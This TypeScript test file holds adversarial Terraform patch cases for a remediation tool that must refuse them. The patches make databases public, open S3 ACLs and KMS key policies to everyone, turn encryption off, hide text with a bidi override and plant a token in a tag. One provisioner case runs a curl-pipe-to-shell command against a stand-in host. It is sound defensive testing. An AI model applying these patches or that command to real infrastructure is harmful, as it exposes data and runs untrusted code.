/**
 * Terraform: hostile patches in the very shape the contract allows (attributes of the target and of its own
 * sub-resources, literal values, allowed resource types). The contract lets them through; only the rule families
 * stand between them and a pull request, in cloudmend's own patches as in `cloudmend guard`.
 */
import { appended, edit, editing, type AdversarialCase, type CaseHead } from './case.js';
import {
  KMS_4,
  LOGS_BLOCK,
  LOGS_KEY,
  LOGS_KEY_ROTATED,
  logsTlsPolicy,
  LOGS_VERSIONING,
  pitr,
  PITR,
  REPORTS_RDS_2,
  S3_14,
  S3_5,
  S3_8,
} from './fixes-terraform.js';
import { LOGS_BUCKET, tfCase, type Changes } from './fixtures-terraform.js';

const REPORTS_CLASS = '  instance_class              = "db.t3.small"\n';
const SESSIONS_SSE_ON = '  server_side_encryption {\n    enabled = true\n  }\n';

/** A hostile patch for `target`: refused in both modes. */
function targeted(c: Omit<CaseHead, 'expect'>, changes: Changes): AdversarialCase {
  return tfCase({ ...c, expect: { guard: 'refuse', patch: 'refuse' } }, changes);
}

/** main.tf with the logs bucket's block replaced by `bucket`. */
const logsBucket = (bucket: string): ((text: string) => string) => editing([LOGS_BUCKET, bucket]);

export const TERRAFORM_TARGETED_CASES: readonly AdversarialCase[] = [
  targeted(
    {
      id: 'tf-targeted-rds-fix-sets-public-true',
      family: 'network',
      target: REPORTS_RDS_2,
      why: 'For RDS.2 the patch sets publicly_accessible on the target, as the contract allows, but to true.',
    },
    { 'database.tf': editing([REPORTS_CLASS, `${REPORTS_CLASS}  publicly_accessible         = true\n`]) },
  ),
  targeted(
    {
      id: 'tf-targeted-access-block-leaves-policy-unblocked',
      family: 'public-access',
      target: S3_8,
      why: "The target's own public access block, an allowed sub-resource, with block_public_policy = false.",
    },
    { 'main.tf': appended(edit(LOGS_BLOCK, ['block_public_policy     = true', 'block_public_policy     = false'])) },
  ),
  targeted(
    {
      id: 'tf-targeted-acl-public-read-write-beside-the-fix',
      family: 'public-access',
      target: S3_8,
      why: "Next to the block, the target's own ACL resource set to public-read-write: a sub-resource, a literal, " + 'public.',
    },
    {
      'main.tf': appended(
        `${LOGS_BLOCK}\nresource "aws_s3_bucket_acl" "logs" {\n  bucket = aws_s3_bucket.logs.id\n` + '  acl    = "public-read-write"\n}\n',
      ),
    },
  ),
  targeted(
    {
      id: 'tf-targeted-key-rotation-with-open-key-policy',
      family: 'iam',
      target: KMS_4,
      why: 'The rotation fix also writes the target key\'s own policy, letting Principal "*" use the key.',
    },
    {
      'main.tf': editing([
        LOGS_KEY,
        `${LOGS_KEY_ROTATED}  policy = jsonencode({
    Version = "2012-10-17"
    Statement = [{ Sid = "Everyone", Effect = "Allow", Principal = "*", Action = "kms:*", Resource = "*" }]
  })
`,
      ]),
    },
  ),
  targeted(
    {
      id: 'tf-targeted-tls-policy-carries-partner-grant',
      family: 'iam',
      target: S3_5,
      why: "The target's own bucket policy holds the TLS deny the control asks for, and an Allow for another account.",
    },
    {
      'main.tf': appended(
        logsTlsPolicy(`      {
        Sid       = "PartnerRead"
        Effect    = "Allow"
        Principal = { AWS = "arn:aws:iam::999988887777:root" }
        Action    = "s3:GetObject"
        Resource  = "\${aws_s3_bucket.logs.arn}/*"
      },
`),
      ),
    },
  ),
  targeted(
    {
      id: 'tf-targeted-pitr-fix-turns-encryption-off',
      family: 'encryption',
      target: PITR,
      why: 'Enabling PITR on the target, the patch also flips its server_side_encryption to false: a target attribute.',
    },
    {
      'services.tf': (text) =>
        editing([SESSIONS_SSE_ON, '  server_side_encryption {\n    enabled = false\n' + '  }\n'])(pitr('true')(text)),
    },
  ),
  targeted(
    {
      id: 'tf-targeted-provisioner-inside-the-target',
      family: 'code-execution',
      target: S3_8,
      why: "A provisioner is a block of the target resource itself; it is still code run on the deployer's machine.",
    },
    {
      'main.tf': (text) =>
        appended(LOGS_BLOCK)(
          logsBucket(
            'resource "aws_s3_bucket" "logs" {\n' +
              '  bucket = "acme-app-logs-${var.environment}"\n\n  provisioner "local-exec" {\n' +
              '    command = "curl -fsSL https://get.example.net/a.sh | sh"\n  }\n}\n',
          )(text),
        ),
    },
  ),
  targeted(
    {
      id: 'tf-targeted-token-in-a-target-tag',
      family: 'secrets',
      target: S3_8,
      why: 'Tags are attributes of the target and literals are allowed: a GitHub token in one is still a leaked secret.',
    },
    {
      'main.tf': (text) =>
        appended(LOGS_BLOCK)(
          logsBucket(
            'resource "aws_s3_bucket" "logs" {\n' +
              '  bucket = "acme-app-logs-${var.environment}"\n\n  tags = {\n' +
              '    Deploy = "ghp_R8k2mQ7vX4nL9pW3sT6yB1cF5hJ0dG2aZ8eU"\n  }\n}\n',
          )(text),
        ),
    },
  ),
  targeted(
    {
      id: 'tf-targeted-versioning-with-force-destroy',
      family: 'deletion',
      target: S3_14,
      why: 'With versioning, force_destroy = true on the target: an allowed attribute that lets a destroy empty the ' + 'bucket.',
    },
    {
      'main.tf': (text) =>
        appended(LOGS_VERSIONING)(
          logsBucket(
            'resource "aws_s3_bucket" "logs" {\n' + '  bucket        = "acme-app-logs-${var.environment}"\n  force_destroy = true\n}\n',
          )(text),
        ),
    },
  ),
  targeted(
    {
      id: 'tf-targeted-bidi-override-in-the-fix',
      family: 'canonical-text',
      target: S3_8,
      why: 'The fix is right, but a comment in it holds U+202E: what the reviewer sees is not what was written.',
    },
    { 'main.tf': appended(`# \u202Eeurt = ycilop_cilbup_kcolb\n${LOGS_BLOCK}`) },
  ),
  targeted(
    {
      id: 'tf-targeted-encryption-replacement-with-public-access',
      family: 'replacement',
      target: { address: 'aws_db_instance.reports', controlId: 'RDS.3' },
      why: 'An approvable replacement (storage_encrypted) bundled with publicly_accessible = true: refused, not ' + 'approved.',
    },
    {
      'database.tf': editing([
        REPORTS_CLASS,
        `${REPORTS_CLASS}  storage_encrypted           = true\n` + '  publicly_accessible         = true\n',
      ]),
    },
  ),
];
